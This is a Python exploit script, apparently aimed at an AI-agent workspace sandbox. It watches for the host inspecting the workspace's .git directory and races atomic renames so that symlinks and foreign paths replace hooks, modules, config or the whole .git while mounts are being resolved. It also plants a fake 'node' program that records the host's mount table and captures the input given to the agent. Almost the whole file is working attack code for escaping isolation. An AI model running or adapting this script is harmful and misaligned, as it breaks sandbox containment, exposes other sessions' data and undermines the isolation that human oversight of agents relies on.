"""Tools of another conversation in the same workspace. They are told by inotify when a host looks at it, and put
links, other folders or files in the place of what it looks at, at one step of the start after another.

    python3 swap-attacker.py WORKSPACE FOREIGN_FOLDER FOREIGN_FILE

FOREIGN_* are paths of the host that are not visible here. Prints the number of its moves after each start.
"""
import ctypes, os, select, shutil, struct, sys, time

work, foreign_folder, foreign_file = sys.argv[1:4]
libc = ctypes.CDLL(None, use_errno=True)
EXCHANGE, AT_FDCWD, ALL_EVENTS = 2, -100, 0xFFF
git = work + '/.git'
spare = work + '/.spare'


# Where one of these folders comes to lie over the programs of the image, this is run in the place of node: it denies
# that mount, and takes what the agent is given.
FALSE_NODE = r'''#!/usr/bin/python3
import json, os, sys
open('/workspace/.a/ran', 'a').write('ran\n')
def look(path):
    fd = os.open(path, os.O_PATH)
    info = open('/proc/self/fdinfo/%d' % fd).read().split()
    stat = os.fstat(fd)
    return {'mountId': int(info[info.index('mnt_id:') + 1]), 'identity': '%d:%d' % (stat.st_dev, stat.st_ino)}
targets = sys.argv[6:]
table = ''.join(line for line in open('/proc/self/mountinfo') if line.split()[4] in targets or '/usr/local' not in line)
boot = open('/proc/sys/kernel/random/boot_id').read().strip()
report = {'type': 'mounts', 'bootId': boot, 'table': table, 'targets': {path: look(path) for path in targets}}
print(json.dumps(report), flush=True)
for line in sys.stdin: open('/workspace/.a/ran', 'a').write(line)
'''
os.makedirs(work + '/.a', exist_ok=True)
os.chmod(work + '/.a', 0o777)


def write_node(folder):
    os.makedirs(folder, exist_ok=True)
    with open(folder + '/node', 'w') as file: file.write(FALSE_NODE)
    os.chmod(folder + '/node', 0o755)


for name in ('modules', 'hooks'):
    try: write_node(git + '/' + name)
    except OSError: pass  # It is pinned.

# A link that needs no timing: it leads to programs of the attacker on the host, where `.a/up` is a link to a deep folder,
# and over the programs of the image in a container, where there is no such path and the dots count as they stand.
host_work = [line.split()[3] for line in open('/proc/self/mountinfo') if line.split()[4] == work][0]
steps = len(host_work.strip('/').split('/')) + 2
deep = 'deep' + '/x' * steps
os.makedirs(work + '/.a/' + deep, exist_ok=True)
write_node(work + '/.a/deep/usr/local/bin')
if not os.path.lexists(work + '/.a/up'): os.symlink(deep, work + '/.a/up')
TWO_WAYS = host_work + '/.a/up' + '/..' * steps + '/usr/local/bin'


def exchange(one, other):
    libc.syscall(316, AT_FDCWD, one.encode(), AT_FDCWD, other.encode(), EXCHANGE)


def put(kind, path):
    """What is to stand in the place of `path`, ready beside it."""
    if os.path.lexists(spare):
        (shutil.rmtree if os.path.isdir(spare) and not os.path.islink(spare) else os.remove)(spare)
    if kind == 'link': os.symlink(foreign_folder, spare)
    elif kind == 'file link': os.symlink(foreign_file, spare)
    elif kind == 'relative link': os.symlink('../' * 12 + foreign_folder, spare)
    elif kind == 'two ways': os.symlink(TWO_WAYS, spare)
    elif kind == 'folder': shutil.copytree(git, spare, symlinks=True)
    elif kind == 'link to programs': os.symlink('../' * 12 + 'usr/local/bin', spare)
    elif kind == 'appears': os.rename(git, spare)
    elif kind == 'worktree': open(spare, 'w').write('gitdir: ' + foreign_folder + '\n')


TARGETS = [
    (git + '/modules', 'two ways'), (git + '/hooks', 'two ways'), (git + '/modules', 'link'), (git + '/modules', 'link to programs'), (git + '/hooks', 'link'),
    (git + '/worktrees', 'relative link'), (git + '/config', 'file link'), (git, 'link'), (git, 'folder'),
    (git, 'worktree'), (git + '/modules', 'relative link'), (git + '/hooks', 'link to programs'),
]
# In ms, from the moment when the host has looked and is still: when it is put there, and for how long.
STEPS = [(0, 1500), (0, 200), (0, 400), (10, 900), (10, 150), (40, 150), (80, 150), (120, 120), (160, 120), (220, 100), (300, 100)]


def watch():
    fd = libc.inotify_init1(os.O_NONBLOCK)
    for path in (work, git, git + '/modules', git + '/hooks'):
        libc.inotify_add_watch(fd, path.encode(), ALL_EVENTS)
    return fd


def wait(fd, seconds):
    """Whether something happened before `seconds` were over."""
    ready = select.select([fd], [], [], seconds)[0]
    if ready: os.read(fd, 65536)
    return bool(ready)


def wait_for_start(fd):
    """Returns when the host has opened the workspace to hold it, which it does some time after it has looked at hooks."""
    hooks = 0
    while True:
        select.select([fd], [], [])
        events = os.read(fd, 65536)
        while events:
            watch, mask, _, length = struct.unpack_from('iIII', events)
            events = events[16 + length:]
            if watch == 4: hooks = time.monotonic()
            elif watch == 1 and mask & 0x20 and hooks and time.monotonic() - hooks > 0.01: return


def attack(target, kind, delay, hold):
    """Returns how often something was moved."""
    if kind == 'appears':
        os.symlink(foreign_folder, git)
        time.sleep(0.3)
        os.remove(git)
        os.rename(spare, git)
        return 2
    if not hold:
        # In and out, as fast as it can: the engine resolves source and target of a mount one after the other.
        until, moves = time.monotonic() + delay / 1000, 0
        while time.monotonic() < until:
            for _ in range(200): exchange(target, spare)
            moves += 200
        return moves
    time.sleep(delay / 1000)
    exchange(target, spare)
    time.sleep(hold / 1000)
    exchange(target, spare)
    return 2


turn = 0
while True:
    # What was seen to be the easiest has every other turn.
    target, kind = TARGETS[turn // 2 % len(TARGETS)] if turn % 2 else TARGETS[turn // 4 % 3]
    delay, hold = STEPS[turn // 3 % len(STEPS)] if turn % 3 else (2000, 0)
    if kind == 'two ways': delay, hold = (12, 900)
    try: put(kind, target)
    except OSError: pass  # It is pinned.
    fd = watch()
    if kind == 'two ways': wait_for_start(fd)
    else:
        while not wait(fd, 3600): pass
        while wait(fd, 0.003): pass
    os.close(fd)
    try: moves = attack(target, kind, delay, hold)
    except OSError: moves = 0
    print(turn, os.path.relpath(target, work), kind, delay, hold, moves, flush=True)
    turn += 1
